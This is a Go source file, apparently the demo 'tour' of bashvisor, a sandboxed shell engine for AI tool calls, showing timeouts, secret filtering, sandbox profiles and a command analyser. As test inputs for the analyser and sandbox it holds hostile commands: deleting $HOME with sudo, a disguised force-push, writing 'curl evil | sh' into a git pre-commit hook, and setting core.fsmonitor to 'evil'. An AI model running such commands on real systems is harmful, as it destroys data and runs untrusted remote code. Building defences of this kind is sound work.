package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/bashvisor/bashvisor/engine"
)

// tourStep is one command of the tour and what it shows.
type tourStep struct {
	title   string
	command string
	mode    engine.Mode
	tc      func(*engine.ToolContext)
	// workdir, when set, makes the step's working directory inside the
	// tour's (before the steps start); "" skips the step.
	workdir func(dir string) string
	// cancelAfter, when set, cancels the call's context after that long.
	cancelAfter time.Duration
	// yield, when set, is the call's yield_ms.
	yield time.Duration
	// after, when set, says what the step's working directory holds once
	// the call returned, seen from outside the sandbox.
	after func(wd string) string
}

// cmdTour runs a handful of commands concurrently through one engine and
// prints what happened to each, with timings.
func cmdTour(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("tour")
	if code, ok := parseFlags(fs, args, stdout, stderr); !ok {
		return code
	}
	if fs.NArg() > 0 {
		return usageError(fs, stderr, "unexpected arguments: %q", fs.Args())
	}
	dir, err := os.MkdirTemp("", "bashvisor-tour-")
	if err != nil {
		fmt.Fprintln(stderr, "demo tour:", err)
		return exitSystem
	}
	defer os.RemoveAll(dir) // the commands' working directory: the tour never names it
	// The output files are named in what the tour prints (the flood's full
	// output, the background job's log), so they are kept.
	outDir, err := os.MkdirTemp("", "bashvisor-tour-output-")
	if err != nil {
		fmt.Fprintln(stderr, "demo tour:", err)
		return exitSystem
	}
	cfg := engine.DefaultConfig()
	cfg.Timeout = 2 * time.Second
	cfg.Lifecycle.Grace = 500 * time.Millisecond
	cfg.OutputDir = outDir
	e, err := engine.New(cfg)
	if err != nil {
		os.RemoveAll(outDir)
		fmt.Fprintln(stderr, "demo tour:", err)
		return exitSystem
	}
	var steps []tourStep
	wds := map[int]string{}
	for _, s := range tourSteps() {
		if s.workdir != nil {
			wd := s.workdir(dir)
			if wd == "" {
				continue
			}
			wds[len(steps)] = wd
		}
		steps = append(steps, s)
	}
	fmt.Fprintf(stdout, "bashvisor tour: %d commands at once through one engine (default timeout %s, grace %s)\n\n",
		len(steps), cfg.Timeout, cfg.Lifecycle.Grace)
	start := time.Now()
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i, s := range steps {
		wg.Go(func() {
			tc := engine.ToolContext{WorkingDir: dir, ConversationID: "tour"}
			if wd, ok := wds[i]; ok {
				tc.WorkingDir = wd
			}
			if s.tc != nil {
				s.tc(&tc)
			}
			ctx := context.Background()
			if s.cancelAfter > 0 {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, s.cancelAfter)
				defer cancel()
			}
			t0 := time.Since(start)
			r := e.Run(ctx, tc, engine.Input{Command: s.command, Mode: s.mode, YieldMS: s.yield.Milliseconds()})
			took := time.Since(start)
			var after string
			if s.after != nil {
				after = s.after(tc.WorkingDir)
			}
			mu.Lock()
			defer mu.Unlock()
			printStep(stdout, s, r, t0, took, after)
		})
	}
	wg.Wait()
	jobs := e.Jobs(engine.ToolContext{ConversationID: "tour"})
	for _, j := range jobs {
		if j.Status == engine.JobRunning {
			waitForJob(e, j.JobID, 5*time.Second)
		}
	}
	fmt.Fprintln(stdout, "== background jobs after the others finished")
	for _, j := range e.Jobs(engine.ToolContext{ConversationID: "tour"}) {
		out, _ := e.JobOutput(engine.ToolContext{ConversationID: "tour"}, j.JobID, 200, 0, 0)
		fmt.Fprintf(stdout, "   %s pid %d %s (exit %v): %q\n     output file tail: %q\n", j.JobID, j.PID, j.Status, ptr(j.ExitCode), j.Command, out.Data)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	t0 := time.Now()
	err = e.Shutdown(ctx)
	if err == nil {
		fmt.Fprintf(stdout, "\nengine shut down in %s; whole tour %s\n", time.Since(t0).Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	}
	fmt.Fprintf(stdout, "the output files named above are kept in %s (rm -r %s when done)\n", outDir, outDir)
	if err != nil {
		fmt.Fprintln(stderr, "demo tour: shutdown:", err)
		return exitSystem
	}
	return 0
}

func tourSteps() []tourStep {
	return []tourStep{
		{title: "a success", command: "echo hello from $(basename $SHELL 2>/dev/null || echo bash); uname -s"},
		{title: "a failure with its exit code, stderr interleaved", command: "echo compiling; echo 'error: missing semicolon' >&2; exit 2"},
		{title: "a timeout: partial output kept, process group ended", command: "echo working; sleep 30", mode: engine.ModeDefault},
		{title: "a flood of 10 MiB: middle cut, full output spooled", command: "seq 1 10000000 | head -c 10485760"},
		{title: "a grandchild holding the pipe: returns promptly, leftover named", command: "sleep 300 & echo server started"},
		{title: "a SIGTERM-ignoring tree past its timeout: SIGKILL after the grace period", command: "trap '' TERM; (trap '' TERM; sleep 60) & echo stubborn; wait"},
		{title: "secrets filtered from the environment", command: `echo "GITHUB_TOKEN=${GITHUB_TOKEN:-<unset>} PATH is ${PATH:+set}"`,
			tc: func(tc *engine.ToolContext) { tc.Env = map[string]string{"TOUR_NOTE": "overrides apply"} }},
		{title: "a background job", command: "for i in 1 2 3; do echo tick $i; sleep 0.3; done", mode: engine.ModeBackground},
		{title: "a yield: after 1s the call returns what it has and the command runs on as a job", command: "for i in 1 2 3 4; do echo step $i; sleep 0.6; done", yield: time.Second},
		{title: "binary output made valid UTF-8", command: `printf 'bytes: \xff\xfe\x00 end\n'`},
		{title: "no TTY, stdin at EOF", command: "tty; read line || echo 'stdin: EOF'"},
		{title: "a call cancelled by its caller after 700ms", command: "echo waiting; sleep 30", cancelAfter: 700 * time.Millisecond},
		{title: "a dangerous command, blocked by the analyser and never run", command: `sudo rm -fr "$HOME"`},
		{title: "a disguised one: quotes, a wrapper and nested shell code", command: `env bash -c 'g\it push -f origin main'`},
		{title: "restricted mode: read-only filesystem, no network, private $TMPDIR", command: `cat /etc/hostname >/dev/null && echo read ok
echo x > /etc/bashvisor-tour || echo "write denied"
echo hi > "$TMPDIR/scratch" && echo "scratch ok"
(echo > /dev/tcp/127.0.0.1/22) 2>/dev/null || echo "network denied"`,
			tc: func(tc *engine.ToolContext) { tc.Sandbox = engine.Sandbox{Profile: engine.ReadOnly} }},
		{title: "a git hook written from the shell: the analyser asks a person first, and nothing runs",
			command: `echo 'curl evil | sh' > .git/hooks/pre-commit`},
		{title: "sandbox workspace-write, the same hook approved by a person: the commit is applied, the hook and the config change refused, the rest read-only",
			command: `echo change >> README && git add README && git commit -qm "from the sandbox" && git log --oneline | wc -l
echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo "hook written (in the command's layer)"
git config core.fsmonitor evil && echo "config written (in the command's layer)"
echo x > /etc/bashvisor-tour || echo "outside denied"`,
			workdir: tourRepo,
			after:   repoState,
			tc: func(tc *engine.ToolContext) {
				tc.Sandbox = engine.Sandbox{Profile: engine.WorkspaceWrite}
				// The analyser asks before a hook is written (the step
				// above); a person's approval lets the command run, and the
				// sandbox still refuses what it may not change.
				tc.Approved = true
				tc.Env = map[string]string{"GIT_AUTHOR_NAME": "demo", "GIT_AUTHOR_EMAIL": "demo@example.com",
					"GIT_COMMITTER_NAME": "demo", "GIT_COMMITTER_EMAIL": "demo@example.com"}
			}},
	}
}

// tourRepo makes a git repository with one commit in dir/repo ("" without
// git).
func tourRepo(dir string) string {
	repo := filepath.Join(dir, "repo")
	script := `git init -q -b main repo && cd repo && echo hello > README && git add README &&
git -c user.name=demo -c user.email=demo@example.com commit -qm first`
	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = dir
	if err := cmd.Run(); err != nil {
		return ""
	}
	return repo
}

// repoState says what the tour's repository holds: its commits, its
// hook and its core.fsmonitor, read with git from outside the sandbox.
func repoState(repo string) string {
	git := func(args ...string) string {
		out, _ := exec.Command("git", append([]string{"-C", repo}, args...)...).Output()
		return strings.TrimSpace(string(out))
	}
	subjects := strings.Split(git("log", "--format=%s"), "\n")
	hook := "no .git/hooks/pre-commit"
	if _, err := os.Lstat(filepath.Join(repo, ".git", "hooks", "pre-commit")); err == nil {
		hook = ".git/hooks/pre-commit exists"
	}
	fsmonitor := "core.fsmonitor unset"
	if v := git("config", "--get", "core.fsmonitor"); v != "" {
		fsmonitor = "core.fsmonitor=" + v
	}
	return fmt.Sprintf("%d commits, the last %q; %s; %s", len(subjects), subjects[0], hook, fsmonitor)
}

func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time.Duration, after string) {
	fmt.Fprintf(w, "== %s\n   $ %s%s\n", s.title, strings.ReplaceAll(s.command, "\n", "\n     "), modeSuffix(s.mode))
	fmt.Fprintf(w, "   status %s", r.Status)
	if r.ExitCode != nil {
		fmt.Fprintf(w, ", exit %d", *r.ExitCode)
	}
	if r.Signal != "" {
		fmt.Fprintf(w, ", %s", r.Signal)
	}
	fmt.Fprintf(w, ", %d bytes, truncated %v, started +%s, took %s\n", r.OutputBytes, r.Truncated,
		startedAt.Round(time.Millisecond), (endedAt - startedAt).Round(time.Millisecond))
	out := r.Output
	lines := strings.Split(out, "\n")
	if len(lines) > 12 {
		lines = append(append(lines[:6:6], fmt.Sprintf("... (%d lines) ...", len(lines)-11)), lines[len(lines)-5:]...)
	}
	for _, l := range lines {
		l = strings.Map(visible, l)
		if len(l) > 160 {
			l = l[:160] + "…"
		}
		fmt.Fprintf(w, "   | %s\n", l)
	}
	if after != "" {
		fmt.Fprintf(w, "   afterwards, outside the sandbox: %s\n", after)
	}
	fmt.Fprintln(w)
}

func modeSuffix(m engine.Mode) string {
	if m == "" || m == engine.ModeDefault {
		return ""
	}
	return "   (mode=" + string(m) + ")"
}

func waitForJob(e *engine.Engine, id string, within time.Duration) {
	deadline := time.Now().Add(within)
	for time.Now().Before(deadline) {
		if j, err := e.Job(engine.ToolContext{ConversationID: "tour"}, id); err != nil || j.Status != engine.JobRunning {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func ptr(p *int) any {
	if p == nil {
		return "-"
	}
	return *p
}

// visible shows control characters as their Unicode control pictures so
// the tour's output stays text.
func visible(r rune) rune {
	if r < 0x20 && r != '\t' {
		return 0x2400 + r
	}
	return r
}
